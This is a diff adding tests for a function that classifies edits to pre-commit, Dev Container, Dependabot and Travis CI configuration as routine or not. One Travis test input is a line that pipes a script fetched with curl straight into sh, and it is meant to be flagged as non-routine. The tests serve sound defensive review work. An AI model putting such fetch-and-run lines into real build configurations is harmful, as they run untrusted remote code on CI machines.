@@ -95,6 +95,22 @@ describe('routine pre-commit and dev container edits', () => {
     expect(isRoutineCiChange('.pre-commit-config.yaml', cfg('v0.7.0', '24.8.0'), cfg('v0.7.0', '24.8.0') + '  - repo: local\n    hooks:\n      - id: x\n        entry: ./x.sh\n        language: system\n')).toBe(false);
   });
 
+  it('treats hooks added, renamed or removed by id from the repositories already listed as routine', () => {
+    const base = cfg('v0.7.0', '24.8.0');
+    // pre-commit-hooks style: more of the same repository's published hooks, one with arguments.
+    expect(isRoutineCiChange('.pre-commit-config.yaml', base, base.replace('      - id: black\n', '      - id: black\n      - id: black-jupyter\n        args: [--quiet]\n'))).toBe(true);
+    // ruff's hook renamed with the rev that renames it (ruff -> ruff-check), its arguments kept.
+    expect(isRoutineCiChange('.pre-commit-config.yaml', base, cfg('v0.9.0', '24.8.0').replace('- id: ruff\n', '- id: ruff-check\n'))).toBe(true);
+    expect(isRoutineCiChange('.pre-commit-config.yaml', base, base.replace('      - id: black\n', ''))).toBe(true);
+  });
+  it('does not treat a hook added with an entry, a language or dependencies of its own as routine', () => {
+    const base = cfg('v0.7.0', '24.8.0');
+    for (const extra of ['        entry: ./fmt.sh\n', '        language: system\n', '        additional_dependencies: [black-plugin]\n']) {
+      expect(isRoutineCiChange('.pre-commit-config.yaml', base, base.replace('      - id: black\n', `      - id: black\n      - id: black-extra\n${extra}`)), extra).toBe(false);
+    }
+    expect(isRoutineCiChange('.pre-commit-config.yaml', base, base.replace('      - id: black\n', '      - id: black\n      - name: no id\n'))).toBe(false);
+  });
+
   const dc = (image: string, node: string, extra = '') =>
     `{\n  "name": "app",\n  "image": "${image}",\n  "features": { "ghcr.io/devcontainers/features/node:${node}": { "version": "lts" } },\n  "customizations": { "vscode": { "extensions": ["dbaeumer.vscode-eslint"] } }${extra}\n}\n`;
   it('treats image tag and feature version bumps as routine for dev containers', () => {
@@ -116,5 +132,26 @@ describe('routine Dependabot edits', () => {
   it('does not when the new entry may run code or gets registries', () => {
     expect(isRoutineCiChange('.github/dependabot.yml', cfg(entry('npm')), cfg(entry('npm'), entry('pip', '    insecure-external-code-execution: allow\n')))).toBe(false);
     expect(isRoutineCiChange('.github/dependabot.yml', cfg(entry('npm')), cfg(entry('npm'), entry('pip', '    registries: "*"\n')))).toBe(false);
+  });
+});
+
+describe('routine Travis CI edits', () => {
+  const travis = (rubies: string, jruby: string, extra = '') =>
+    `language: ruby\ndist: focal\nrvm:\n${rubies}  - ${jruby}\nbefore_install:\n  - gem install bundler\nscript: bundle exec rake\nmatrix:\n  fast_finish: true\n  include:\n    - rvm: ${jruby}\n      env: JRUBY_OPTS=--dev\n  allow_failures:\n    - rvm: ruby-head\n${extra}`;
+  const base = travis('  - 2.6.5\n  - 2.7.0\n', 'jruby-9.2.9.0');
+  it('treats the interpreter versions, the hosted image and version-only matrix entries as routine', () => {
+    expect(isRoutineCiChange('.travis.yml', base, travis('  - 2.6.6\n  - 2.7.1\n  - 3.0.0\n', 'jruby-9.2.11.0'))).toBe(true);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('dist: focal', 'dist: jammy\nsudo: false'))).toBe(true);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('    - rvm: ruby-head\n', '    - rvm: ruby-head\n    - rvm: jruby-head\n'))).toBe(true);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('  allow_failures:\n    - rvm: ruby-head\n', ''))).toBe(true);
+  });
+  it('does not treat a command, env, a matrix entry that sets more than versions, or an addon source as routine', () => {
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('gem install bundler', 'curl -s https://x.example/i.sh | sh'))).toBe(false);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('JRUBY_OPTS=--dev', 'JRUBY_OPTS=--dev RACK_VERSION=main'))).toBe(false);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('    - rvm: ruby-head\n', '    - rvm: ruby-head\n    - rvm: 3.3\n      script: ./deploy.sh\n'))).toBe(false);
+    expect(isRoutineCiChange('.travis.yml', base, base.replace('script: bundle exec rake', 'script: bundle exec rake\ndeploy:\n  provider: rubygems'))).toBe(false);
+    const apt = (name: string) => base.replace('script:', `addons:\n  apt:\n    sources:\n      - name: ${name}\nscript:`);
+    expect(isRoutineCiChange('.travis.yml', apt('ppa:ruby/stable'), apt('ppa:someone/else'))).toBe(false);
+    expect(isRoutineCiChange('.travis.yml', base, 'rvm: [')).toBe(false);
   });
 });
